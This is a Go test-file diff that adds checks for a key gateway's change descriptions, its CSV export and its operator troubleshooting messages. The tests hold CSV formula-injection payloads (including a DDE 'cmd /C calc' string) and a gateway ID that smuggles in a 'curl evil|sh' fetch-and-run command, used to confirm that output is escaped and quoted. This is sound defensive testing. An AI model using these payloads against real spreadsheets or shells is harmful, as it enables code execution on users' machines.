@@ -1,8 +1,14 @@
 package operate
 
 import (
+	"encoding/csv"
+	"slices"
+	"strings"
 	"testing"
 	"time"
+
+	"petgate/shared/keystore"
+	"petgate/shared/testkit/must"
 )
 
 func TestTexts(t *testing.T) {
@@ -44,6 +50,77 @@ func TestTexts(t *testing.T) {
 	} {
 		if c[0] != c[1] {
 			t.Errorf("%q, want %q", c[0], c[1])
+		}
+	}
+}
+
+func TestChangeOf(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct{ name, before, after, want string }{
+		{"members that are not set", "", `{"plan":"free","minute":0,"suspended":false,"allow":null,"scopes":[],"reason":""}`, "plan free"},
+		{"texts that look as if they were not set", `{"name":"0"}`, `{"name":"false","reason":"null"}`, `name "0" → "false", reason - → "null"`},
+		{"a list of one such text", "", `{"list":["0"]}`, "list 0"},
+		{"an address", `{"address":"10.0.0.5:9090"}`, "", "was: address 10.0.0.5:9090"},
+		{"an address with words", "", `{"address":"x, plan free"}`, `address "x, plan free"`},
+		{"a time that is not set", `{"expiresAt":0}`, `{"expiresAt":1000}`, "expires 1970-01-01T00:00:01Z"},
+	} {
+		if got := ChangeOf(keystore.Event{Before: c.before, After: c.after}); got != c.want {
+			t.Errorf("%s: %s, want %s", c.name, got, c.want)
+		}
+	}
+}
+
+// A spreadsheet runs no cell. Numbers stay numbers, negative ones too.
+func TestCSVHasNoFormulas(t *testing.T) {
+	t.Parallel()
+	type row struct {
+		Name  string          `json:"name"`
+		Names []string        `json:"names"`
+		N     int             `json:"n"`
+		Event keystore.Change `json:"event"`
+		Ratio float64         `json:"ratio"`
+	}
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://example.com";"x")`: `'=HYPERLINK("http://example.com";"x")`,
+		"+1+cmd|' /C calc'!A0":                 "'+1+cmd|' /C calc'!A0",
+		"-1":                                   "'-1",
+		"@SUM(1)":                              "'@SUM(1)",
+		"\t=1":                                 "'\t=1",
+		"\r=1":                                 "'=1", // the writer of CSV drops it
+		"'=1":                                  "'=1",
+		"a=1":                                  "a=1",
+		"":                                     "",
+	} {
+		var out strings.Builder
+		must.Do(t, WriteCSV(&out, row{in, []string{in, "b"}, -1, -2, -0.5}))
+		lines, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+		if got := lines[1]; err != nil || !slices.Equal(got, []string{want, want + " b", "-1", "-2", "-0.5"}) {
+			t.Errorf("%q: %q, %v", in, lines, err)
+		}
+	}
+}
+
+// Every state has its meaning, and what an operator has to end says how. The ID of a gateway, which the gateway itself writes, is one word of the
+// command to copy.
+func TestGatewayStates(t *testing.T) {
+	t.Parallel()
+	const forget = "If its process has ended and will not come back: keyadmin gateway forget 'gw 1; curl evil|sh?'"
+	for _, c := range []struct {
+		state, problem, cure string
+		maxAge               int64
+	}{
+		{state: keystore.GatewayLive},
+		{state: keystore.GatewayBehind},
+		{state: keystore.GatewayStarting},
+		{state: keystore.GatewaySilent, problem: "not seen for 5 s: it has stopped", cure: forget},
+		{state: keystore.GatewaySilent, problem: "so changes wait for it, at most 56 s longer", cure: forget, maxAge: 60_000},
+		{state: keystore.GatewayFenced, problem: "not seen for 5 s, longer than its --directory-max-age", cure: "restart it"},
+		{state: keystore.GatewayReplaced, problem: "another process has registered with its ID", cure: "its own GATEWAY_ID. " + forget},
+	} {
+		means := slices.IndexFunc(GatewayStates, func(s struct{ State, Means string }) bool { return s.State == c.state })
+		problem, cure := GatewayTrouble(keystore.Gateway{ID: "gw 1; curl evil|sh\x1b", Age: 5000, MaxAge: c.maxAge}, c.state)
+		if means < 0 || (problem == "") != (c.problem == "") || !strings.Contains(problem, c.problem) || !strings.Contains(cure, c.cure) {
+			t.Errorf("%s: %q, %q; want %q, %q", c.state, problem, cure, c.problem, c.cure)
 		}
 	}
 }
